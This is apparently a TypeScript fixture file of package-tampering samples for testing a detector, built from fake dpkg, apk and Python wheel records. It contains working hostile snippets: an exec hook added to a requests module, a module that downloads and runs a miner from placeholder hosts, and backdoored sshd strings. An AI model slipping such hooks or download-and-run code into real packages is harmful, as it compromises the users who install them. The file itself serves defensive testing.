import { createHash } from 'node:crypto';
import { program } from './program.ts';
import { ofFamily } from './sample.ts';

const original = program(['ls (GNU coreutils) 8.32']);
const changed = program(['ls (GNU coreutils) 8.32', '/usr/lib/.hide']);

function md5(bytes: Buffer | string): string {
  return createHash('md5').update(bytes).digest('hex');
}

function recordHash(bytes: Buffer | string): string {
  return `sha256=${createHash('sha256').update(bytes).digest('base64url')}`;
}

/** dpkg's records of one package, as it writes them. */
function dpkg(name: string, files: Readonly<Record<string, Buffer | string>>): Record<string, string> {
  const sums = Object.entries(files).map(([path, bytes]) => `${md5(bytes)}  ${path}\n`);
  return {
    'var/lib/dpkg/status': `Package: ${name}\nStatus: install ok installed\nPriority: required\nSection: utils\nMaintainer: Nobody <nobody@example.invalid>\nArchitecture: amd64\nVersion: 8.32-4\nDescription: tools\n\n`,
    [`var/lib/dpkg/info/${name}.list`]: `/.\n${Object.keys(files)
      .map((path) => `/${path}\n`)
      .join('')}`,
    [`var/lib/dpkg/info/${name}.md5sums`]: sums.join(''),
  };
}

const honestInit = 'version = "2.31.0"\n\ndef get(url):\n    raise NotImplementedError\n';
const site = 'usr/local/lib/python3.11/site-packages';

export const samples = ofFamily('package-tampering', [
  {
    id: 'package-changed-ls',
    level: 'easy',
    technique: 'ls differs from what dpkg installed (T1554).',
    files: { ...dpkg('coreutils', { 'bin/ls': original }), 'bin/ls': changed },
    expect: 'suspicious',
    where: 'bin/ls',
  },
  {
    id: 'package-changed-sshd',
    level: 'ordinary',
    technique: 'sshd with a password of its own (Ebury-like; ESET 2024; T1554).',
    files: {
      ...dpkg('openssh-server', { 'usr/sbin/sshd': program(['OpenSSH_8.4p1']) }),
      'usr/sbin/sshd': program([
        'OpenSSH_8.4p1',
        'auth_password: magic',
        '/var/log/.sshd_auth',
        'Accepted password for %s (%s)',
      ]),
    },
    expect: 'malicious',
    where: 'usr/sbin/sshd',
  },
  {
    id: 'package-changed-pam',
    level: 'hard',
    technique:
      'pam_unix.so of another build, its sums in the database changed for the neighbour only (T1556.003).',
    files: {
      ...dpkg('libpam-modules', {
        'lib/x86_64-linux-gnu/security/pam_unix.so': program(['pam_unix'], { type: 3 }),
        'lib/x86_64-linux-gnu/security/pam_deny.so': program(['pam_deny'], { type: 3 }),
      }),
      'lib/x86_64-linux-gnu/security/pam_unix.so': program(['pam_unix', 'strcmp'], { type: 3 }),
      'lib/x86_64-linux-gnu/security/pam_deny.so': program(['pam_deny'], { type: 3 }),
    },
    expect: 'suspicious',
    where: 'lib/x86_64-linux-gnu/security/pam_unix.so',
  },
  {
    id: 'package-changed-requests',
    level: 'easy',
    technique: 'A module of a wheel is not what RECORD says (T1554, T1195.002).',
    files: {
      [`${site}/requests-2.31.0.dist-info/METADATA`]:
        'Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\n',
      [`${site}/requests-2.31.0.dist-info/RECORD`]: `requests/__init__.py,${recordHash(honestInit)},${honestInit.length}\nrequests-2.31.0.dist-info/METADATA,,\nrequests-2.31.0.dist-info/RECORD,,\n`,
      [`${site}/requests/__init__.py`]: `${honestInit}import os as _o; _o.environ.get("PROXY_HOOK") and exec(_o.environ["PROXY_HOOK"])\n`,
    },
    expect: 'suspicious',
    where: `${site}/requests/__init__.py`,
  },
  {
    id: 'package-added-module',
    level: 'hard',
    technique:
      'A module beside those that RECORD lists, imported by a changed one (Ultralytics 8.3.41, December 2024).',
    files: {
      [`${site}/ultra-8.3.41.dist-info/METADATA`]: 'Metadata-Version: 2.1\nName: ultra\nVersion: 8.3.41\n',
      [`${site}/ultra-8.3.41.dist-info/RECORD`]: `ultra/__init__.py,${recordHash(honestInit)},${honestInit.length}\nultra-8.3.41.dist-info/RECORD,,\n`,
      [`${site}/ultra/__init__.py`]: `${honestInit}from . import downloads\n`,
      [`${site}/ultra/downloads.py`]: `import os, platform, tempfile, urllib.request
def safe_run(path):
    os.chmod(path, 0o770)
    os.system("%s -u 4${'A'.repeat(94)}.8 -o pool.example.invalid:8080 --background" % path)
if platform.system() == "Linux":
    p = os.path.join(tempfile.gettempdir(), "ultralytics_runner")
    urllib.request.urlretrieve("https://dl.example.invalid/linux", p); safe_run(p)
`,
    },
    expect: 'malicious',
    where: `${site}/ultra/downloads.py`,
    does: 'miner',
  },
  {
    id: 'package-apk-changed',
    level: 'ordinary',
    technique: 'busybox differs from what apk installed, so every command of the image does (T1554).',
    files: {
      'lib/apk/db/installed': `C:Q1${'A'.repeat(27)}=\nP:busybox\nV:1.36.1-r5\nA:x86_64\nS:1\nI:1\nT:tools\nU:https://busybox.example.invalid\nL:GPL-2.0-only\nF:bin\nR:busybox\na:0:0:755\nZ:Q1${createHash('sha1').update(original).digest('base64')}\n\n`,
      'bin/busybox': changed,
    },
    expect: 'suspicious',
    where: 'bin/busybox',
  },
]);
